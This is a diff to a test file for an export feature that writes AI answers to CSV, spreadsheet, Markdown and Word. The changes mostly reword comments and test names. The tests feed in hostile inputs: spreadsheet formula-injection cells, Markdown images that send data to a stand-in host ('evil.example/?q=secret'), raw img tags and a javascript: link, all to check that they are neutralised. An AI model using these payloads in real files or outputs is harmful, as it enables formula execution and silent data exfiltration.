@@ -31,15 +31,15 @@ const answer = String.raw`Before [1].
 After.`
 const table = () => readTable(findTables(answer)[0] ?? "", sources)
 
-// Would catch: a table that is taken for none, or code that is taken for one.
-test("tables are found where they stand", () => {
+// Catches a table that isn't found, or code that is read as a table.
+test("finds tables outside code", () => {
   expect(findTables(answer)).toHaveLength(1)
   expect(findTables(`${answer}\n\na|b\n-|-\n1|2`)).toHaveLength(2)
   expect(findTables("```\na|b\n-|-\n1|2\n```\n\na | b\n\n---")).toEqual([])
 })
 
-// Would catch: a cell that a spreadsheet carries out, and a citation that is lost or stays in its cell.
-test("CSV has harmless cells and their sources in the last column", () => {
+// Catches a cell that a spreadsheet runs as a formula, and a citation that is lost or stays in its cell.
+test("writes CSV with harmless cells and their sources in the last column", () => {
   expect(csvFile(rowsWithSources(table())).split("\r\n")).toEqual([
     "\uFEFFDocument,What,Amount,Sources",
     `lease.pdf,The | rent_x now,900,"lease.pdf, Page 2; lease.pdf, Page 3"`,
@@ -53,7 +53,8 @@ test("CSV has harmless cells and their sources in the last column", () => {
     ["-5", "-5"],
     ["-5+cmd|x", "'-5+cmd|x"],
     ["＝1+1", "'＝1+1"],
-    // A quote that is opened at the beginning would be taken off before the formula is looked for, and take in what follows.
+    // When pasting, a spreadsheet strips a leading quote before it looks for a formula. An unclosed quote would swallow the following
+    // cells.
     ['"=1+1"', `'"=1+1"`],
     ['"1+1"', '"""1+1"""'],
     ["+1,234.50", "+1,234.50"],
@@ -62,8 +63,8 @@ test("CSV has harmless cells and their sources in the last column", () => {
   expect(csvFile([["a\t=1+1", "b;=1+1"]])).toBe(`\uFEFF"a\t'=1+1","b;'=1+1"\r\n`)
 })
 
-// Would catch: a formula in a workbook, a code that becomes a number, and sources that are left out.
-test("a workbook reads back as text and numbers, its sources beside them", async () => {
+// Catches a formula in a workbook, a code that becomes a number, and missing sources.
+test("writes a workbook that reads back as text and numbers, with sources on a second sheet", async () => {
   const workbook = read(await (await toSpreadsheet(table())).arrayBuffer(), { cellFormula: true })
   expect(workbook.SheetNames).toEqual(["Table", "Sources"])
   const [sheet, listed] = workbook.SheetNames.map((name) => workbook.Sheets[name] ?? {})
@@ -77,8 +78,8 @@ test("a workbook reads back as text and numbers, its sources beside them", async
   expect(utils.sheet_to_json(listed, { header: 1 })[1]).toEqual([1, "lease.pdf, Page 2", "=The rent"])
 })
 
-// Would catch: a library that makes a workbook no program opens, of what a scan or a model left in a cell.
-test("a workbook holds only what XML can", async () => {
+// Catches a workbook that no program can open because of characters that a scan or a model left in a cell.
+test("writes only valid XML characters to a workbook", async () => {
   const rows = [
     { cells: ["Heading"], numbers: [] },
     { cells: ["A\u0001B\uD800"], numbers: [] },
@@ -87,16 +88,17 @@ test("a workbook holds only what XML can", async () => {
   expect(await partOf(workbook, "xl/sharedStrings.xml")).toMatch(/>AB\uFFFD?</)
 })
 
-// Would catch: sources that an answer doesn't rest on, or none of those that it does.
-test("Markdown ends with the sources that are cited", () => {
+// Catches sources that the answer doesn't cite, and missing ones that it does cite.
+test("ends Markdown with the cited sources", () => {
   expect(savedMarkdown({ title: "Q", text: "So [2].\n", sources })).toBe(
     "# Q\n\nSo [2].\n\n## Sources\n\n- [2] lease.pdf, Page 3\n",
   )
   expect(savedMarkdown({ title: "Q", text: "So.", sources: [] })).toBe("# Q\n\nSo.\n")
 })
 
-// Would catch: a picture, which tells a server that the file was opened, and what the model had put into its address; and a name that is one.
-test("Markdown fetches nothing and carries out nothing where it is opened", () => {
+// Catches an image in the saved file: loading it tells a server that the file was opened, and sends what the model put into its address.
+// Catches a file name that is such an image.
+test("saves Markdown that fetches and runs nothing when it is opened", () => {
   const foreign = { ...source(1, 2), fileName: "![](https:evil.example)<img src=x>\n# a.pdf" }
   const text =
     "A ![chart](https://evil.example/?q=secret) [![b][c]](https://example.org/) <img src=x> [1]<br>\n\n" +
@@ -113,18 +115,18 @@ test("Markdown fetches nothing and carries out nothing where it is opened", () =
   ])
 })
 
-// Would catch: a picture that comes about where another one was taken out.
+// Catches an image that is formed where another one was removed.
 test.each([
   "!![](x)[y](https://evil.example/a.png)",
   "![!](x)[y](https://evil.example/a.png)",
   "!![](x)[y][r]\n\n[r]: https://evil.example/a.png",
   "![#](x) `a\n<img src=https://evil.example/a.png>\n`",
   `${"!".repeat(9)}![](x)${"[](https://evil.example/a.png)".repeat(9)}`,
-])("Markdown fetches nothing, however its pictures are written: %s", (text) => {
+])("saves Markdown that fetches nothing, however its images are written: %s", (text) => {
   expect(foreignParts(savedMarkdown({ title: "Q", text, sources: [] }))).toEqual([])
 })
 
-/** A part of a Word document. */
+/** Returns one part of a Word document. */
 async function partOf(document: Blob, name: string): Promise<string> {
   const zip = await fromBufferPromise(Buffer.from(await document.arrayBuffer()))
   for await (const entry of zip.eachEntry())
@@ -132,8 +134,8 @@ async function partOf(document: Blob, name: string): Promise<string> {
   throw new Error(`no ${name}`)
 }
 
-// Would catch: headings, lists, tables and code that are flattened, and text that makes a document no program opens.
-test("a Word document keeps what the answer is made of", async () => {
+// Catches flattened headings, lists, tables and code, and text that makes a document no program can open.
+test("keeps an answer's structure in a Word document", async () => {
   const markdown = `## Head\n\n1. one\n   - inner\n2. two\n\n\`\`\`\ncode <b>\n  more\n\`\`\`\n\n> said\n\n- [x] done\n\n[bad](javascript:alert(1)) [good](https://example.org/)\n\nA\u0001B & <tag>\n\n${answer}`
   const document = await toWord({ title: "Q & A \uD800", text: markdown, sources })
   const xml = await partOf(document, "word/document.xml")
@@ -151,8 +153,8 @@ test("a Word document keeps what the answer is made of", async () => {
   expect(links).not.toContain("javascript")
 })
 
-// Would catch: a document that Word refuses to open for a sign that XML doesn't have.
-test("a Word document holds only what XML can", async () => {
+// Catches a document that Word refuses to open because of a character that XML doesn't allow.
+test("writes only valid XML characters to a Word document", async () => {
   const odd = "a\u0001\uFFFE\uFFFFb"
   const document = await toWord({
     title: odd,
